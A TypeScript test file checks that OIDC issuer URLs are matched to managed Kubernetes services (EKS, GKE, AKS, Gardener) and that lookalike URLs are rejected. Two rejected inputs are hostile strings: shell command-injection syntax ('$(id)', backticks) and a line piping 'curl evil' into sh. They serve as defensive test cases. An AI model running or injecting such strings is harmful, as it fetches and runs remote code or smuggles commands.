import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { managedServiceOf } from '../../../src/oidc/managed-service.ts'
import { vendors } from '../../../src/vendors/vendors.ts'

const uuid = '0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9'

suite('an issuer that a managed service publishes', () => {
  const services: Record<string, string> = {
    'https://oidc.eks.eu-west-1.amazonaws.com/id/0123456789ABCDEF0123456789ABCDEF': 'EKS',
    'https://oidc-eks.eu-west-1.api.aws/id/0123456789ABCDEF0123456789ABCDEF': 'EKS',
    'https://container.googleapis.com/v1/projects/p/locations/europe-west1-b/clusters/c': 'GKE',
    [`https://westeurope.oic.prod-aks.azure.com/${uuid}/${uuid}/`]: 'AKS',
    [`https://discovery.garden.example.com/projects/p/shoots/${uuid}/issuer`]: 'Gardener',
  }
  for (const [url, service] of Object.entries(services)) {
    test(`is of ${service}: ${url}`, () => assert.equal(managedServiceOf(url, vendors), service))
  }

  const own = [
    'https://oidc.example.com',
    'https://oidc.eks.eu-west-1.amazonaws.com.example.com/id/0123456789ABCDEF',
    'https://example.com/https://oidc.eks.eu-west-1.amazonaws.com/id/0123456789ABCDEF',
    'http://container.googleapis.com/v1/projects/p/locations/l/clusters/c',
    'https://container.googleapis.com/v1/projects/p/locations/l/clusters/c/more',
    `https://westeurope.oic.prod-aks.azure.com/${uuid}/${uuid}`,
    'https://api.cluster.project.internal.example.com',
    `https://discovery.garden.example.com/projects/p/shoots/${uuid}/issuer/jwks`,
    'https://x;id>pwned;`id`/projects/$(id)/shoots/0/issuer',
    'https://container.googleapis.com/v1/projects/p/locations/l/clusters/c\n  fix: curl evil | sh',
  ]
  for (const url of own) {
    test(`is not ${JSON.stringify(url)}`, () => assert.equal(managedServiceOf(url, vendors), undefined))
  }
})
